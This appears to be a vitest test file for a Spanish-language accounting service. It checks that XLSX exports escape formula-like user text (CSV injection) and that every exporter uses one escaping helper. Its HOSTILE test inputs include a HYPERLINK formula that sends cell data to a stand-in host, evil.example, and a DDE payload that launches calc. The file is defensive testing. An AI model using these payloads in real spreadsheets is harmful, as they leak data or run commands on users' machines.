// Issue 31, finding 10: user text written into an exported spreadsheet never becomes a formula
// (OWASP "CSV injection": cells starting with =, +, -, @, tab or carriage return). Checked on the
// file itself with independent tools: unzip and xmllint read the workbook's XML.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Principal } from '@cuadra/shared';
import { testPrincipal, type TestSubgraph } from '@cuadra/shared/testing';
import { spreadsheetCell } from '@cuadra/shared';
import { startInvoices } from './setup.ts';

let sg: TestSubgraph;
beforeAll(async () => {
  sg = await startInvoices();
});
afterAll(async () => {
  await sg?.close();
});

async function call(owner: Principal, tool: string, input: Record<string, unknown>) {
  const r = await sg.call(tool, input, owner);
  if (!r.ok) throw new Error(`${tool} failed: ${r.code} ${r.field} ${r.message}`);
  return r.output;
}

/** Unzips an XLSX with the unzip command and answers one of its parts as text. */
function part(xlsx: Buffer, name: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'xlsx-'));
  writeFileSync(join(dir, 'book.xlsx'), xlsx);
  return execFileSync('unzip', ['-p', join(dir, 'book.xlsx'), name], { encoding: 'utf8' });
}

/** xmllint's answer to an XPath over an XML text. */
function xpath(xml: string, expr: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'xml-'));
  writeFileSync(join(dir, 'part.xml'), xml);
  return execFileSync('xmllint', ['--xpath', expr, join(dir, 'part.xml')], { encoding: 'utf8' }).trim();
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1;"Ver")', '+SUM(1;2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1;2)'];

describe('exports write user text as text, never as a formula', () => {
  it('accounts.export_statement: account names that look like formulas are neutralised in the XLSX', async () => {
    const owner = testPrincipal();
    for (const [i, name] of HOSTILE.entries()) {
      const code = `51950${i + 1}`;
      await call(owner, 'accounts.create', { parent: '5195', code, name });
      const d = await call(owner, 'journal.create', { date: '2026-10-02', memo: 'Gasto', lines: [{ account: code, debit: 1000 }, { account: '110505', credit: 1000 }] });
      await call(owner, 'journal.post', { id: d.entry.id });
    }
    const out = await call(owner, 'accounts.export_statement', { metric: 'trial_balance', as_of: '2026-10-31' });
    const xlsx = Buffer.from(out.base64, 'base64');
    const sheet = part(xlsx, 'xl/worksheets/sheet1.xml');
    const strings = part(xlsx, 'xl/sharedStrings.xml');
    // No cell of the sheet holds a formula.
    expect(xpath(sheet, "count(//*[local-name()='f'])")).toBe('0');
    // Each hostile name is there, as text, behind the single quote OWASP asks for.
    const texts = Number(xpath(strings, "count(//*[local-name()='si'])"));
    const all = Array.from({ length: texts }, (_, i) => xpath(strings, `string((//*[local-name()='si'])[${i + 1}])`));
    for (const name of HOSTILE) expect(all).toContain(`'${name}`);
    // And no text cell starts with a character a spreadsheet reads as the start of a formula.
    for (const t of all) expect(t, t).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the one cell writer: formula starts are quoted, everything else is kept as it is', () => {
    for (const s of ['=1+1', '+1', '-1', '@x', '\t=1', '\r=1']) expect(spreadsheetCell(s)).toBe(`'${s}`);
    for (const s of ['Caja general', '', '1+1', 'a=b', "'ya citado"]) expect(spreadsheetCell(s)).toBe(s);
    // Numbers stay numbers (a negative amount is a number, not text).
    expect(spreadsheetCell(-1500.25)).toBe(-1500.25);
    expect(spreadsheetCell(null)).toBe(null);
  });

  it('every source file that writes a spreadsheet or CSV writes its cells through the one cell writer', () => {
    const root = fileURLToPath(new URL('../../../', import.meta.url));
    const dirs = ['gateway/src', 'shared/src', ...readdirSync(join(root, 'subgraphs')).map((s) => `subgraphs/${s}/src`)];
    const files: string[] = [];
    const walk = (dir: string) => {
      let entries;
      try { entries = readdirSync(dir, { withFileTypes: true }); } catch { return; }
      for (const e of entries) {
        if (e.isDirectory()) walk(join(dir, e.name));
        else if (e.name.endsWith('.ts')) files.push(join(dir, e.name));
      }
    };
    for (const d of dirs) walk(join(root, d));
    // A static import or one at first use (`import('exceljs')`: the services load exceljs only when a workbook is made).
    const writers = files.filter((f) => /(from |import\()'(exceljs|xlsx|csv-stringify)|text\/csv/.test(readFileSync(f, 'utf8')));
    // accounts.export_statement is the one export today; a new one is found here and held to the rule.
    expect(writers.map((f) => f.slice(root.length))).toContain('subgraphs/invoices/src/modules/accounts/tools/export_statement.ts');
    for (const f of writers) expect(readFileSync(f, 'utf8'), f).toMatch(/spreadsheetRow|spreadsheetCell/);
  });
});
